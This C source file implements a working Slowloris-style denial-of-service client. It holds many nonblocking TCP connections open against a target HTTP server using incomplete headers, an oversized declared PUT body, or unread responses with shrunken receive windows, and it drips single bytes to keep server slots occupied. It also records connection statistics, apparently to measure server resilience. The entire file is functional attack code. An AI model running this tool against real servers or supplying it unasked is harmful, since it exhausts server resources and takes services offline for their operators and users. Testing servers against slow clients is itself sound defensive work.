/* SPDX-License-Identifier: MIT */
#include "slowloris.h"

#include <errno.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Fewer connects at a time than the backlog holds. */
enum { EVENTS_AT_ONCE = 256, CONNECTING_MAX = 256, TICK_MS = 20, REQUEST_ROOM = 16384 };

/* What the kernel keeps for a client that does not read: small segments and a small window keep it small. */
enum { UNREAD_SEGMENT = 256, UNREAD_WINDOW = 2304 };

enum slow_state { SLOW_CLOSED, SLOW_CONNECTING, SLOW_OPEN };

struct slow_connection {
    int socket;
    enum slow_state state;
    uint64_t opened_at;
};

struct run {
    const struct slow_options *options;
    struct slow_figures *figures;
    struct slow_connection *connections;
    unsigned *closed; /* a stack of those to open */
    unsigned closed_count, connecting_count, open_count;
    bool is_ready;
    int epoll;
    uint64_t started, reopen_until, give_up_at;
    uint64_t drips; /* bytes fallen due so far: connection `drips % connections` is next */
    char request[REQUEST_ROOM];
    size_t request_length;
};

static uint64_t monotonic_us(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000U + (uint64_t)now.tv_nsec / 1000U;
}

/* What each client sends when it is connected. */
static bool write_request(struct run *run)
{
    static const char *const rest[] = {
        [SLOW_HEAD] = "X-Slow: ",
        [SLOW_BODY] = "Content-Type: application/json\r\nContent-Length: 99999\r\n\r\n",
        [SLOW_UNREAD] = "\r\n",
    };
    const struct slow_options *options = run->options;
    int wrote = snprintf(run->request, REQUEST_ROOM, "%s %s HTTP/1.1\r\nHost: slow\r\n%s",
                         options->mode == SLOW_BODY ? "PUT" : "GET", options->path, rest[options->mode]);

    if (wrote < 0 || wrote >= REQUEST_ROOM) {
        fprintf(stderr, "slowloris: the path is too long\n");
        return false;
    }
    run->request_length = (size_t)wrote;
    return true;
}

static void close_one(struct run *run, struct slow_connection *connection)
{
    if (connection->state == SLOW_CONNECTING)
        run->connecting_count--;
    else
        run->open_count--;
    close(connection->socket);
    connection->state = SLOW_CLOSED;
    run->closed[run->closed_count++] = (unsigned)(connection - run->connections);
}

static void note_end(struct run *run, struct slow_connection *connection)
{
    struct slow_figures *figures = run->figures;
    uint64_t life = monotonic_us() - connection->opened_at;

    if (connection->state == SLOW_CONNECTING) {
        figures->refused++;
    } else {
        figures->ended++;
        if (figures->ended == 1 || life < figures->shortest_us)
            figures->shortest_us = life;
        if (life > figures->longest_us)
            figures->longest_us = life;
    }
    close_one(run, connection);
}

static bool set_small(int fd)
{
    int segment = UNREAD_SEGMENT;
    int window = UNREAD_WINDOW;

    return setsockopt(fd, IPPROTO_TCP, TCP_MAXSEG, &segment, sizeof(segment)) == 0 &&
           setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &window, sizeof(window)) == 0;
}

static bool open_one(struct run *run, unsigned number)
{
    const struct slow_options *options = run->options;
    struct slow_connection *connection = &run->connections[number];
    struct epoll_event event = {.events = EPOLLOUT | EPOLLRDHUP | EPOLLET, .data = {.ptr = connection}};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

    if (fd < 0 || (options->mode == SLOW_UNREAD && !set_small(fd)) ||
        (connect(fd, (const struct sockaddr *)&options->address, sizeof(options->address)) != 0 &&
         errno != EINPROGRESS) ||
        epoll_ctl(run->epoll, EPOLL_CTL_ADD, fd, &event) != 0) {
        fprintf(stderr, "slowloris: cannot connect: %s\n", strerror(errno));
        if (fd >= 0)
            close(fd);
        return false;
    }
    *connection = (struct slow_connection){.socket = fd, .state = SLOW_CONNECTING};
    run->connecting_count++;
    return true;
}

static bool open_some(struct run *run)
{
    while (run->closed_count > 0 && run->connecting_count < CONNECTING_MAX)
        if (!open_one(run, run->closed[--run->closed_count]))
            return false;
    return true;
}

static void begin_request(struct run *run, struct slow_connection *connection)
{
    ssize_t sent = send(connection->socket, run->request, run->request_length, MSG_NOSIGNAL);

    if (sent != (ssize_t)run->request_length) {
        note_end(run, connection);
        return;
    }
    run->connecting_count--;
    run->open_count++;
    run->figures->opened++;
    connection->state = SLOW_OPEN;
    connection->opened_at = monotonic_us();
    if (!run->is_ready && run->figures->opened >= run->options->connections) {
        run->is_ready = true;
        puts("ready");
        fflush(stdout);
    }
}

static void take_event(struct run *run, struct slow_connection *connection, uint32_t events)
{
    if (connection->state == SLOW_CLOSED)
        return;
    if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))
        note_end(run, connection);
    else if (connection->state == SLOW_CONNECTING && (events & EPOLLOUT))
        begin_request(run, connection);
}

/* The connections take turns, evenly spread over the interval. A failure shows as an event. */
static void drip(struct run *run, uint64_t now)
{
    const struct slow_options *options = run->options;
    uint64_t due = (uint64_t)((double)(now - run->started) / 1e6 / options->interval * options->connections);

    if (options->mode == SLOW_UNREAD)
        return;
    for (; run->drips < due; run->drips++) {
        struct slow_connection *connection = &run->connections[run->drips % options->connections];

        if (connection->state == SLOW_OPEN)
            (void)send(connection->socket, " ", 1, MSG_NOSIGNAL);
    }
}

static bool is_over(const struct run *run, uint64_t now)
{
    if (now >= run->give_up_at)
        return true;
    return run->is_ready && now >= run->reopen_until && run->open_count + run->connecting_count == 0;
}

static bool drive(struct run *run)
{
    const struct slow_options *options = run->options;
    uint64_t now = monotonic_us();

    run->started = now;
    run->reopen_until = now + (uint64_t)(options->seconds * 1e6);
    run->give_up_at = run->reopen_until + (uint64_t)(options->patience * 1e6);
    for (; !is_over(run, now); now = monotonic_us()) {
        struct epoll_event events[EVENTS_AT_ONCE];
        int count;

        if ((!run->is_ready || now < run->reopen_until) && !open_some(run))
            return false;
        count = epoll_wait(run->epoll, events, EVENTS_AT_ONCE, TICK_MS);
        for (int i = 0; i < count; i++)
            take_event(run, events[i].data.ptr, events[i].events);
        drip(run, monotonic_us());
    }
    run->figures->held = run->open_count + run->connecting_count;
    return true;
}

bool slow_run(const struct slow_options *options, struct slow_figures *figures)
{
    struct run run = {.options = options, .figures = figures};
    bool done = false;

    run.epoll = epoll_create1(EPOLL_CLOEXEC);
    run.connections = calloc(options->connections, sizeof(*run.connections));
    run.closed = calloc(options->connections, sizeof(*run.closed));
    if (run.epoll < 0 || !run.connections || !run.closed) {
        fprintf(stderr, "slowloris: cannot begin: %s\n", strerror(errno));
        goto out;
    }
    for (unsigned i = 0; i < options->connections; i++)
        run.closed[run.closed_count++] = i;
    done = write_request(&run) && drive(&run);
out:
    for (unsigned i = 0; run.connections && i < options->connections; i++)
        if (run.connections[i].state != SLOW_CLOSED)
            close(run.connections[i].socket);
    free(run.connections);
    free(run.closed);
    if (run.epoll >= 0)
        close(run.epoll);
    return done;
}
